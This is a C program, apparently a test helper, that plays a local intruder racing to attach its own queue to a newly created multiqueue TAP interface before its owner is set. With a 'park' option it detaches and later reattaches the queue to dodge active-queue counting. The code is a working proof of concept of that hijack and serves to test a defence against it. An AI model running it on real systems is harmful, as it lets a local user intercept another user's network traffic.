/*
 * The attack that counting queues stops: a local user who hears of a new multiqueue TAP attaches a queue of its own before the owner is set,
 * and with `park` detaches it at once, so that it doesn't count as active, to attach it again later.
 * Usage: intruder PREFIX [park]. Tells "ready", "joined" or "refused", and at the end of stdin "back" or "kept out".
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/if_tun.h>
#include <linux/netlink.h>
#include <linux/rtnetlink.h>
#include <net/if.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <unistd.h>

static int attach(int fd, const char *name) {
    struct ifreq request;
    memset(&request, 0, sizeof request);
    strncpy(request.ifr_name, name, IFNAMSIZ - 1);
    request.ifr_flags = IFF_TAP | IFF_NO_PI | IFF_MULTI_QUEUE;
    return ioctl(fd, TUNSETIFF, &request);
}

static int queue(int fd, short what) {
    struct ifreq request;
    memset(&request, 0, sizeof request);
    request.ifr_flags = what;
    return ioctl(fd, TUNSETQUEUE, &request);
}

int main(int count, char **arguments) {
    char buffer[32768];
    struct sockaddr_nl address = {.nl_family = AF_NETLINK, .nl_groups = RTMGRP_LINK};
    int events = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE), fd = 0, joined = 0;
    if (count < 2 || bind(events, (struct sockaddr *)&address, sizeof address))
        return 2;
    /* Descriptor 3 is a tun that somebody opened for us: this uid need not be able to. */
    fd = 3;
    puts("ready");
    fflush(stdout);
    while (!joined) {
        ssize_t size = recv(events, buffer, sizeof buffer, 0);
        if (size <= 0)
            return 2;
        struct nlmsghdr *header = (struct nlmsghdr *)buffer;
        if (header->nlmsg_type != RTM_NEWLINK)
            continue;
        struct ifinfomsg *info = NLMSG_DATA(header);
        int left = (int)IFLA_PAYLOAD(header);
        for (struct rtattr *a = IFLA_RTA(info); RTA_OK(a, left); a = RTA_NEXT(a, left))
            if (a->rta_type == IFLA_IFNAME && !strncmp(RTA_DATA(a), arguments[1], strlen(arguments[1]))) {
                if (attach(fd, RTA_DATA(a))) {
                    puts("refused");
                    fflush(stdout);
                    return 0;
                }
                joined = 1;
            }
    }
    if (count > 2 && queue(fd, IFF_DETACH_QUEUE))
        return 3;
    puts("joined");
    fflush(stdout);
    while (read(0, buffer, sizeof buffer) > 0)
        continue;
    puts(count > 2 && !queue(fd, IFF_ATTACH_QUEUE) ? "back" : "kept out");
    return 0;
}
